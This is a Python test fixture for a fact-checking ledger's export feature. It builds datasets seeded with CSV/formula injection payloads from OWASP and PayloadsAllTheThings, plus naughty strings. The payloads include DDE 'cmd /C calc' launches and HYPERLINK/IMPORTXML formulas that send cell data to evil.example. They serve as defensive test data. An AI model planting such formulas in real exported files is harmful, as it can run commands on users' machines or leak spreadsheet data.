"""Ledgers to export: empty, of one claim, full of text that breaks formats; and nasty texts."""

from __future__ import annotations

import json
from typing import Any

from conftest import Place, run
from sqlalchemy import text
from world import WORLD

from factcheck.storage.engine import make_engine, writing

MADE = {"author": "Mina", "made_at": "2025-03-01T12:00:00Z"}

# From OWASP's page on CSV injection, PayloadsAllTheThings, and what got round filters of others.
PAYLOADS = (
    "=1+1",
    '=HYPERLINK("https://evil.example/?x="&A1,"look")',
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "-1+1",
    "+1",
    "\t=1+1",
    "\n=1+1",
    " =1+1",
    "\u00a0=1+1",
    "\u3000=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
    '=DDE("cmd";"/C calc";"!A0")A0',
    "=rundll32|'URL.dll,OpenURL calc.exe'!A",
    '=IMPORTXML(CONCAT("https://evil.example/?v=",CONCATENATE(A2:E2)),"//a")',
    "=10+20+cmd|' /C calc'!A0",
    '=1+1";=1+1',
)

# After the Big List of Naughty Strings.
NAUGHTY = (
    "quotes \" and ' and ,",
    "two\nlines",
    "a\ttab",
    "\\back\\slash\\",
    "{ one brace",
    "} } {",
    "$HOME #1 50% a_b ~ ^ & <b>x</b> `id` {{7*7}} ${7*7}",
    "TY  - JOUR",
    "국정원은 300명이라고 밝혔다",
    "Київ — Харків, ґанок",
    "مرحبا بالعالم",
    "👩‍👩‍👧‍👦 🇰🇵",
    "e\u0301 \u2028 separators \u2029 and zero\u200bwidth",
    "null",
    "NaN",
    "1E+10",
    "0012",
    "true",
)

ONE = {
    "sources": [{"key": "nis", "name": "NIS", "kind": "organisation"}],
    "documents": [{"key": "wire", "title": "Wire", "kind": "report", "issued": "2025-01-13"}],
    "claims": [
        {
            "key": "one",
            "statement": "One thing happened.",
            "kind": "event",
            "attributions": [{"source": "nis", "document": "wire"}],
        }
    ],
}


def nasty() -> dict[str, Any]:
    """Return records with such texts wherever a text may stand."""
    texts = [*PAYLOADS, *NAUGHTY]
    lines = [" ".join(one.split()) for one in texts]
    return {
        "sources": [
            {"key": f"s-{number}", "name": line, "kind": "group", "aliases": [line]}
            for number, line in enumerate(lines)
        ],
        "documents": [
            {
                "key": f"d-{number}",
                "title": line,
                "kind": "article-newspaper",
                "publisher": f"s-{number}",
                "byline": line,
                "csl": {"volume": line, "deep": {"z": 1.5, "a": [line, None, True]}},
            }
            for number, line in enumerate(lines)
        ],
        "questions": [{"key": "q", "text": "How many?", "kind": "quantity", "unit": "people"}],
        "claims": [
            {
                "key": f"c-{number}",
                "statement": one,
                "kind": "statistic",
                "attributions": [
                    {
                        "document": f"d-{number}",
                        "quote": lines[number],
                        "citing": [{"source": f"s-{number}", "cue": lines[number]}],
                    }
                ],
                "figures": [{"question": "q", "words": f"about {number + 2}"}],
                "annotations": [{"kind": "note", "body": one} | MADE],
            }
            for number, one in enumerate(texts)
        ],
    }


CONTENTS: dict[str, dict[str, Any] | None] = {
    "empty": None,
    "one": ONE,
    "nasty": nasty(),
    "world": WORLD,
}


def fill(place: Place, content: str) -> Place:
    """Make a ledger; every machine and engine gives its changesets the same moments."""
    seed = ["--seed"] if content == "seed" else []
    result = run("init", *seed, *place.options)
    assert result.code == 0, result.err
    if content != "seed" and CONTENTS[content]:
        told = json.dumps(CONTENTS[content])
        result = run("import", "-", "--actor", "Mina", *place.options, stdin=told)
        assert result.code == 0, result.err
    address = place.open().address
    with writing(make_engine(address), address) as connection:
        for number in (1, 2):
            at = f"2025-03-0{number}T12:00:00.000000Z"
            connection.execute(
                text("UPDATE changeset SET at = :at WHERE id = :id"), {"at": at, "id": number}
            )
    return place
